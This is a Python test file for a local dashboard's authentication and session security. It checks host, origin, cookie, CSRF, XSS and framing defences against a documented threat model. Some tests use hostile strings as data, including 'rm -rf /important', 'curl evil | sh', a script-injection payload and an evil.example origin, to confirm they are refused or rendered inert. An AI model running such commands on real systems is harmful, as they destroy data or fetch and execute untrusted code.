"""Host, origin, token and session rules (``baton.web.auth``, ``baton.web.sessions``).

Each line of the threat model in ``docs/security.md`` ("The dashboard's threat
model", ids W1…, O1…, S1…, R1) has a test here named after it
(``test_w1_…``); ``test_every_threat_model_line_has_a_test`` keeps the two in step.
"""

from __future__ import annotations

import hashlib
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from starlette.applications import Starlette

from baton.requests.ledger import Ledger
from baton.store.store import Store
from baton.store.web_sessions import revoke_all
from baton.web.app import create_app
from baton.web.auth import (
    COOKIE_PREFIX,
    LABEL_LEN,
    SECURITY_HEADERS,
    is_loopback_host,
    login_host_name,
    tokens_match,
)
from baton.web.sessions import CODE_TTL_S, Session, SessionAuth, normalize_code
from tests.web.conftest import BASE_URL
from tests.web.streaming import StreamingASGITransport
from tests.web.webbuild import TOKEN, create, permission_doc

LOGIN_HOST = "baton-proj-abcdefghijkmn.localhost"
LOGIN_URL = f"http://{LOGIN_HOST}:8765"
COOKIE = f"{COOKIE_PREFIX}_8765"
ALLOW = {"kind": "permission", "decision": "allow"}
DOCS = Path(__file__).resolve().parents[2] / "docs" / "security.md"


def _app(store: Store, ledger: Ledger, token: str | None = TOKEN) -> Starlette:
    return create_app(store, ledger, token=token, login_host=LOGIN_HOST, poll_interval=0.02)


def _client(app: Starlette, base_url: str = LOGIN_URL) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=base_url)


@pytest.fixture
async def anonymous(store: Store, ledger: Ledger) -> AsyncIterator[httpx.AsyncClient]:
    """A browser-like client on the login host (it keeps the cookies it is given)."""
    async with _client(_app(store, ledger)) as client:
        yield client


async def _login(client: httpx.AsyncClient, store: Store) -> str:
    """Log in as the page's script does; returns the proof half (the cookie is in the jar)."""
    code = await SessionAuth(store).issue_code()
    response = await client.post("/api/login", json={"code": code}, headers={"Origin": LOGIN_URL})
    assert response.status_code == 200, response.text
    proof = response.json()["proof"]
    assert isinstance(proof, str) and len(proof) >= 43
    return str(proof)


def _proof(proof: str) -> dict[str, str]:
    return {"X-Baton-Proof": proof}


# --------------------------------------------------------------------- the rules


@pytest.mark.parametrize("path", ["/api/runs", "/api/requests", "/api/runs/run-1/stream"])
async def test_api_without_credentials_is_401(anonymous: httpx.AsyncClient, path: str) -> None:
    response = await anonymous.get(path)
    assert response.status_code == 401
    assert response.headers["www-authenticate"].startswith("Bearer")


@pytest.mark.parametrize("path", ["/", "/team", "/runs/run-1"])
async def test_pages_without_a_session_go_to_login(anonymous: httpx.AsyncClient, path: str) -> None:
    response = await anonymous.get(path)
    assert response.status_code == 303
    assert response.headers["location"] == "/login"
    login = await anonymous.get("/login")
    assert login.status_code == 200
    assert "login code" in login.text.lower()


async def test_bearer_token(anonymous: httpx.AsyncClient) -> None:
    wrong = await anonymous.get("/api/runs", headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401
    basic = await anonymous.get("/api/runs", headers={"Authorization": f"Basic {TOKEN}"})
    assert basic.status_code == 401
    right = await anonymous.get("/api/runs", headers={"Authorization": f"Bearer {TOKEN}"})
    assert right.status_code == 200


async def test_a_code_opens_one_session_in_two_halves(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    code = await SessionAuth(store).issue_code()
    response = await anonymous.post(
        "/api/login", json={"code": code.lower()}, headers={"Origin": LOGIN_URL}
    )
    assert response.status_code == 200, response.text
    cookie = response.headers["set-cookie"]
    proof = response.json()["proof"]
    assert cookie.startswith(f"{COOKIE}=")
    assert TOKEN not in cookie and proof not in cookie
    assert "HttpOnly" in cookie and "samesite=strict" in cookie.lower()
    # Both halves: the data. The cookie alone: the page shell (no data) or a 401.
    assert (await anonymous.get("/api/requests", headers=_proof(proof))).status_code == 200
    assert (await anonymous.get("/api/requests")).status_code == 401
    record = await create(ledger, permission_doc("rm -rf /important"))
    shell = await anonymous.get("/")
    assert shell.status_code == 200 and 'id="shell"' in shell.text
    assert "rm -rf" not in shell.text and record.request_id not in shell.text
    page = await anonymous.get("/", headers=_proof(proof))
    assert "rm -rf /important" in page.text
    url = f"/api/requests/{record.request_id}/answer"
    cross = await anonymous.post(
        url, json=ALLOW, headers=_proof(proof) | {"Origin": "http://127.0.0.1:5173"}
    )
    assert cross.status_code == 403
    same = await anonymous.post(url, json=ALLOW, headers=_proof(proof) | {"Origin": LOGIN_URL})
    assert same.status_code == 200
    # Replaying the used code fails, from this client or any other.
    again = await anonymous.post("/api/login", json={"code": code}, headers={"Origin": LOGIN_URL})
    assert again.status_code == 401
    assert again.json()["error"] == "InvalidLogin"


async def test_codes_expire_and_garbage_is_refused(store: Store, ledger: Ledger) -> None:
    now = [1_000_000.0]
    auth = SessionAuth(store, clock=lambda: now[0])
    code = await auth.issue_code()
    now[0] += CODE_TTL_S + 1
    assert await auth.exchange(code, origin=LOGIN_URL) is None
    assert await auth.exchange("not a code", origin=LOGIN_URL) is None
    assert normalize_code("abcd-efgh-jkmn") == "ABCDEFGHJKMN"
    assert normalize_code("ABCD-EFGH-JKM0") is None  # 0 is not in the alphabet


async def test_the_token_as_a_cookie_is_no_credential(anonymous: httpx.AsyncClient) -> None:
    for name in (COOKIE, "baton_token_8765"):
        response = await anonymous.get("/api/runs", headers={"Cookie": f"{name}={TOKEN}"})
        assert response.status_code == 401


async def test_a_session_only_works_on_the_origin_it_was_opened_on(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    proof = await _login(anonymous, store)
    secret = anonymous.cookies[COOKIE]
    app = _app(store, ledger)
    # What a *browser* elsewhere would send: another host or port in Host and Origin.
    for base in ("http://127.0.0.1:8765", "http://localhost:8765", f"http://{LOGIN_HOST}:5173"):
        async with _client(app, base) as other:
            stolen = await other.get(
                "/api/runs", headers=_proof(proof) | {"Cookie": f"{COOKIE}={secret}"}
            )
            assert stolen.status_code == 401, base


async def test_login_is_refused_on_a_shared_host_name(store: Store, ledger: Ledger) -> None:
    async with _client(_app(store, ledger), BASE_URL) as client:
        code = await SessionAuth(store).issue_code()
        response = await client.post(
            "/api/login", json={"code": code}, headers={"Origin": BASE_URL}
        )
        assert response.status_code == 403
        assert LOGIN_HOST in response.json()["message"]
        # The code was not spent by the refused attempt.
        assert await SessionAuth(store).exchange(code, origin=LOGIN_URL) is not None


async def test_sessions_survive_a_restart_on_a_new_login_host(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    proof = await _login(anonymous, store)
    secret = anonymous.cookies[COOKIE]
    # The next start has another random login host; a page opened before still works.
    restarted = create_app(
        store, ledger, token="another-token", login_host="baton-proj-zyxwvutsrqpon.localhost"
    )
    async with _client(restarted) as client:
        client.cookies.set(COOKIE, secret)
        assert (await client.get("/api/requests", headers=_proof(proof))).status_code == 200
        login = await client.post("/api/login", json={"code": "ABCD-EFGH-JKMN"})
        assert login.status_code == 403  # logins only on the new name


@pytest.mark.parametrize("token", [TOKEN, None])
async def test_origin_is_checked_on_every_write_in_every_mode(
    store: Store, ledger: Ledger, token: str | None
) -> None:
    record = await create(ledger, permission_doc())
    url = f"/api/requests/{record.request_id}/answer"
    headers = {"Authorization": f"Bearer {TOKEN}"} if token else {}
    async with _client(_app(store, ledger, token), BASE_URL) as client:
        for origin in ("http://127.0.0.1:5173", "null", "https://evil.example"):
            response = await client.post(url, json=ALLOW, headers=headers | {"Origin": origin})
            assert response.status_code == 403, origin
        site = await client.post(
            url, json=ALLOW, headers=headers | {"Sec-Fetch-Site": "cross-site"}
        )
        assert site.status_code == 403
        ok = await client.post(url, json=ALLOW, headers=headers | {"Origin": BASE_URL})
        assert ok.status_code == 200


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("127.0.0.1:8765", 200),
        ("localhost:8765", 200),
        ("[::1]:8765", 200),
        (f"{LOGIN_HOST}:8765", 200),
        ("baton-proj-zyxwvutsrqpon.localhost:8765", 200),  # an earlier start's name
        ("evil.example", 403),
        ("evil.example:8765", 403),
        ("192.168.1.5:8765", 403),
        ("x.localhost:8765", 403),
        ("baton-other-abcdefghijkmn.localhost:8765", 403),  # another project's
        ("baton-proj-abc.localhost:8765", 403),
    ],
)
@pytest.mark.parametrize("token", [TOKEN, None])
async def test_w1_host_is_checked_in_every_mode(
    store: Store, ledger: Ledger, host: str, status: int, token: str | None
) -> None:
    headers = {"Host": host} | ({"Authorization": f"Bearer {token}"} if token else {})
    async with _client(_app(store, ledger, token), BASE_URL) as client:
        response = await client.get("/api/runs", headers=headers)
    assert response.status_code == status


async def test_assets_and_the_icon_are_public(anonymous: httpx.AsyncClient) -> None:
    script = await anonymous.get("/assets/dashboard.js")
    assert script.status_code == 200
    assert script.headers["content-type"].startswith("text/javascript")
    assert "innerHTML" not in script.text and "outerHTML" not in script.text
    assert "insertAdjacentHTML" not in script.text and "document.write" not in script.text
    assert (await anonymous.get("/assets/dashboard.css")).status_code == 200
    icon = await anonymous.get("/favicon.ico")
    assert icon.status_code == 200 and icon.headers["content-type"].startswith("image/svg+xml")


def test_helpers() -> None:
    assert tokens_match(TOKEN, TOKEN)
    assert not tokens_match(None, TOKEN)
    assert not tokens_match(TOKEN + "x", TOKEN)
    assert not tokens_match("é", TOKEN)  # non-ASCII input does not raise
    assert is_loopback_host("LOCALHOST.")
    assert not is_loopback_host("localhost.evil.example")
    assert not is_loopback_host("")


@pytest.mark.parametrize("cookie", [f'{COOKIE}="abc', "\x00;;==", f"{COOKIE}=" + "x" * 500])
async def test_bad_cookies_are_no_credential(anonymous: httpx.AsyncClient, cookie: str) -> None:
    response = await anonymous.get("/api/runs", headers={"Cookie": cookie, "X-Baton-Proof": "p"})
    assert response.status_code == 401


# ------------------------------------------------------------ the threat model


def test_every_threat_model_line_has_a_test() -> None:
    ids = set(re.findall(r"^\| \*\*([WOSR]\d)\*\* \|", DOCS.read_text(encoding="utf-8"), re.M))
    assert ids, "docs/security.md lost its threat model table"
    here = Path(__file__).read_text(encoding="utf-8")
    browser = (Path(__file__).parent / "browser" / "test_security_browser.py").read_text("utf-8")
    missing = {i for i in ids if f"def test_{i.lower()}_" not in here + browser}
    assert missing == set(), f"threat model lines without a test: {sorted(missing)}"


async def test_w2_a_write_from_another_origin_is_refused(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    proof = await _login(anonymous, store)
    record = await create(ledger, permission_doc())
    url = f"/api/requests/{record.request_id}/answer"
    # What a page elsewhere can make the browser send: the cookie rides along, the origin
    # says where it comes from, and a form cannot send JSON.
    for headers in (
        {"Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Origin": f"http://{LOGIN_HOST}:5173"},
    ):
        refused = await anonymous.post(url, json=ALLOW, headers=_proof(proof) | headers)
        assert refused.status_code == 403, headers
    form = await anonymous.post(
        url, content=b"kind=permission", headers=_proof(proof) | {"Origin": LOGIN_URL}
    )
    assert form.status_code == 415
    assert (await ledger.get(record.request_id)).state.value == "pending"


async def test_w3_no_response_is_readable_cross_origin(
    anonymous: httpx.AsyncClient, store: Store
) -> None:
    proof = await _login(anonymous, store)
    for method, path in (("GET", "/api/requests"), ("OPTIONS", "/api/requests"), ("GET", "/")):
        response = await anonymous.request(
            method,
            path,
            headers=_proof(proof)
            | {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"},
        )
        assert "access-control-allow-origin" not in response.headers, path
        assert response.headers["cross-origin-resource-policy"] == "same-origin"


async def test_w4_the_dashboard_cannot_be_framed_and_scripts_only_come_from_it(
    anonymous: httpx.AsyncClient,
) -> None:
    for path in ("/login", "/", "/api/runs", "/assets/dashboard.js"):
        response = await anonymous.get(path)
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value, (path, name)
    csp = SECURITY_HEADERS["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
    assert "unsafe-inline" not in csp


async def test_w5_agent_text_is_inert_on_the_page(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    proof = await _login(anonymous, store)
    await create(ledger, permission_doc('"><script>alert(1)</script>\x1b[2J\u202e'))
    page = (await anonymous.get("/", headers=_proof(proof))).text
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\x1b" not in page and "\u202e" not in page and "␛[2J" in page


async def test_w6_a_page_elsewhere_cannot_read_either_half(
    anonymous: httpx.AsyncClient, store: Store
) -> None:
    code = await SessionAuth(store).issue_code()
    response = await anonymous.post(
        "/api/login", json={"code": code}, headers={"Origin": LOGIN_URL}
    )
    set_cookie = response.headers["set-cookie"].lower()
    # The cookie: not readable by script (HttpOnly), not sent on cross-site requests;
    # the proof: only in the JSON answer to the login page's own script (same origin).
    assert "httponly" in set_cookie and "samesite=strict" in set_cookie
    assert "domain=" not in set_cookie  # host-only: this exact host name
    assert response.json()["proof"] not in response.headers["set-cookie"]


async def test_o1_anyone_on_the_machine_can_connect_but_gets_nothing(
    anonymous: httpx.AsyncClient, ledger: Ledger
) -> None:
    record = await create(ledger, permission_doc("deploy --prod"))
    for path in ("/api/requests", "/fragments/requests/" + record.request_id, "/api/live"):
        assert (await anonymous.get(path)).status_code == 401, path
    shell = await anonymous.get("/", headers={"Cookie": f"{COOKIE}=guess"})
    assert "deploy --prod" not in shell.text
    answer = await anonymous.post(
        f"/api/requests/{record.request_id}/answer", json=ALLOW, headers={"Origin": LOGIN_URL}
    )
    assert answer.status_code == 401


async def test_o2_the_state_directory_is_private(store: Store, db_path: Path) -> None:
    # The store (codes and sessions as digests), the services file with the dashboard's
    # address: all under a 0700 directory another user cannot enter.
    assert db_path.parent.stat().st_mode & 0o077 == 0


def test_o3_the_login_host_is_random_per_start_and_not_derived_from_the_path(
    tmp_path: Path,
) -> None:
    project = tmp_path / "My Project"
    project.mkdir()
    names = {login_host_name(project) for _ in range(20)}
    assert len(names) == 20
    derived = hashlib.sha256(str(project.resolve()).encode()).hexdigest()
    for name in names:
        assert re.fullmatch(rf"baton-my-project-[a-z2-7]{{{LABEL_LEN}}}\.localhost", name), name
        label = name.removesuffix(".localhost").rsplit("-", 1)[1]
        assert label not in derived
    assert len(next(iter(names))) <= 63


async def test_o4_a_replayed_cookie_with_forged_host_and_origin_opens_nothing(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    await _login(anonymous, store)
    secret = anonymous.cookies[COOKIE]
    record = await create(ledger, permission_doc("curl evil | sh"))
    # A client that got the cookie (a server on another port the browser was sent to)
    # sends it with exactly the headers the browser would: Host and Origin forged right.
    forged = {"Cookie": f"{COOKIE}={secret}", "Host": f"{LOGIN_HOST}:8765", "Origin": LOGIN_URL}
    async with _client(_app(store, ledger), "http://127.0.0.1:8765") as replay:
        answer = await replay.post(
            f"/api/requests/{record.request_id}/answer", json=ALLOW, headers=forged
        )
        assert answer.status_code == 401
        for path in ("/api/requests", f"/fragments/requests/{record.request_id}"):
            assert (await replay.get(path, headers=forged)).status_code == 401, path
        page = await replay.get("/", headers=forged)
        assert "curl evil" not in page.text
        guessed = await replay.get("/api/requests", headers=forged | {"X-Baton-Proof": secret})
        assert guessed.status_code == 401
    assert (await ledger.get(record.request_id)).state.value == "pending"


async def test_o5_a_squatter_on_the_port_gets_the_session_until_it_is_revoked(
    anonymous: httpx.AsyncClient, store: Store, ledger: Ledger
) -> None:
    # While baton is stopped, a process on its port is the dashboard's origin to the
    # browser: an open page reconnecting its stream sends it the cookie and the stream
    # URL with the proof. That is the documented residual risk; revocation ends it.
    proof = await _login(anonymous, store)
    secret = anonymous.cookies[COOKIE]
    both = {"Cookie": f"{COOKIE}={secret}"}
    async with _client(_app(store, ledger)) as squatter:
        # The query form of the proof is for the two streams only.
        assert (await squatter.get(f"/api/requests?proof={proof}", headers=both)).status_code == 401
        assert (
            await squatter.get("/api/requests", headers=both | _proof(proof))
        ).status_code == 200
        assert await revoke_all(store) == 1
    async with _client(_app(store, ledger)) as after:
        assert (await after.get("/api/requests", headers=both | _proof(proof))).status_code == 401


async def test_s1_a_process_of_the_user_can_mint_a_login(store: Store) -> None:
    # Same user, same powers: the store is theirs, so a code minted there logs in.
    # baton does not pretend otherwise (docs/security.md).
    code = await SessionAuth(store).issue_code()
    opened = await SessionAuth(store).exchange(code, origin=LOGIN_URL)
    assert isinstance(opened, Session)


async def test_s2_nothing_of_the_dashboard_reaches_an_agent_environment(
    store: Store, ledger: Ledger, tmp_path: Path
) -> None:
    from baton.web.server import DashboardServer

    before = dict(os.environ)
    server = DashboardServer(store, ledger, port=0, project_dir=tmp_path)
    await server.start()
    try:
        url = await server.login_url()
        assert dict(os.environ) == before  # agents get an allowlist of this, nothing more
        secrets_ = {server.token or "", server.login_host, url.split("#code=")[1]}
        assert not any(s in v for s in secrets_ for v in os.environ.values())
    finally:
        await server.stop()


async def test_r1_logout_all_ends_open_streams(store: Store, ledger: Ledger) -> None:
    app = create_app(
        store, ledger, token=TOKEN, login_host=LOGIN_HOST, poll_interval=0.02, keepalive=60
    )
    async with _client(app) as browser:
        proof = await _login(browser, store)
        secret = browser.cookies[COOKIE]
    transport = StreamingASGITransport(app)
    async with httpx.AsyncClient(transport=transport, base_url=LOGIN_URL) as client:
        headers = {"Cookie": f"{COOKIE}={secret}"}
        async with client.stream(
            "GET", f"/api/live?topics=inbox&proof={proof}", headers=headers
        ) as stream:
            assert stream.status_code == 200
            lines = stream.aiter_lines()
            while not (await anext(lines)).startswith("data:"):
                pass
            assert await revoke_all(store) == 1
            # The stream ends by itself (no client-side timeout decides this test).
            rest = [line async for line in lines]
        assert not any(line.startswith("data:") and "after" in line for line in rest)
